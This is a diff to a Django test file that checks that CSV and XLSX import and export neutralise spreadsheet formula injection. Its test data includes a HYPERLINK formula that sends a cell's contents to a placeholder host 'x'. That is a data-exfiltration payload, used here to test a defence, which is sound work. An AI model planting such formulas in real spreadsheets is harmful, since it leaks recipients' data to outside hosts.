@@ -25,6 +25,7 @@ from liudong.people.models import Person
 from liudong.people.tests.test_web import arrival_data
 from liudong.places import services as places
 from liudong.places.models import Employer, RentalHouse
+from liudong.regions.models import Region
 from liudong.tabular import Formula, read_table
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"点击")'
@@ -187,9 +188,12 @@ def test_a_real_formula_is_still_refused_on_import(tmp_path, villages, suffix):
         workbook.active.append(list(row.values()))
         assert workbook.active["B2"].data_type == "f"
         workbook.save(path)
-    summary = summary_of("import_persons", path)
+    errors = tmp_path / "errors.xlsx"
+    summary = summary_of("import_persons", path, "--errors", str(errors))
     assert [(r["row"], r["field"]) for r in summary["rejected"]] == [(2, "name")]
     assert not Person.objects.exists()
+    # The errors file shows the refused text as text, not as a live formula.
+    assert "=1+2" in xlsx_rows(errors)[1]
 
 
 @pytest.fixture
@@ -327,3 +331,15 @@ def test_no_module_writes_csv_or_xlsx_but_through_the_helper():
         and (found := bypasses(path.read_text(encoding="utf-8")))
     }
     assert offenders == {}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_export_regions_writes_a_formula_name_as_text_and_imports_back(tmp_path, villages, suffix):
+    Region.objects.filter(code=VILLAGE_A1).update(name=HYPERLINK)
+    out = tmp_path / f"regions.{suffix}"
+    call_command("export_regions", "--region", "330106", "--format", suffix, "--out", str(out))
+    assert_neutralised(out, [HYPERLINK])
+    summary = summary_of("import_regions", out)
+    assert (summary["imported"], summary["updated"], summary["rejected"]) == (0, 0, []), summary
+    assert Region.objects.get(code=VILLAGE_A1).name == HYPERLINK
